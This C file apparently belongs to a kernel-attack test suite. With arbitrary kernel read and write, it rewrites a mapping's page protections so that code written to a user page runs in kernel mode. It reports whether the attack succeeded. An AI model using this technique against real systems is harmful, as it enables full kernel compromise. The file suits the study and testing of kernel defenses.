// SPDX-License-Identifier: GPL-2.0-only
/*
 * What entries of a mapping say besides the page comes from vma->vm_page_prot, which
 * is ordinary memory: that a page is the kernel's, and that it runs.
 */
#include <string.h>
#include <sys/mman.h>

#include "answer.h"
#include "attack.h"
#include "list.h"
#include "objects.h"

/* Shared, so that what was written is there when it is mapped again. */
enum outcome vma_code(void)
{
	char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	uint64_t vma, protection, value = 0;
	struct slot slot;
	int err;

	if (page == MAP_FAILED)
		return broken("no shared page");
	memcpy(page, answer_code, ANSWER_SIZE);
	__builtin___clear_cache(page, page + ANSWER_SIZE);
	vma = find_vma(page);
	if (!vma)
		return broken("no mapping found");
	protection = kread64(vma + VMA_PROT);
	err = kwrite64(vma + VMA_PROT, pte_make_executable(protection & ~PTE_USER));
	madvise(page, PAGE_SIZE, MADV_DONTNEED);
	if (madvise(page, PAGE_SIZE, MADV_POPULATE_READ) || kwalk((uint64_t)page, LEAF, 0, &slot) ||
	    !slot.value || slot.value & PTE_USER)
		err = -1;
	err = err ?: call_answer((uint64_t)page, &value);
	kwrite64(vma + VMA_PROT, protection);
	madvise(page, PAGE_SIZE, MADV_DONTNEED);
	if (!is_answer(err, value))
		return lost("call gave %d, value 0x%lx", err, value);
	return won("code written to user page %p ran in the kernel and returned 0x%lx", page, value);
}
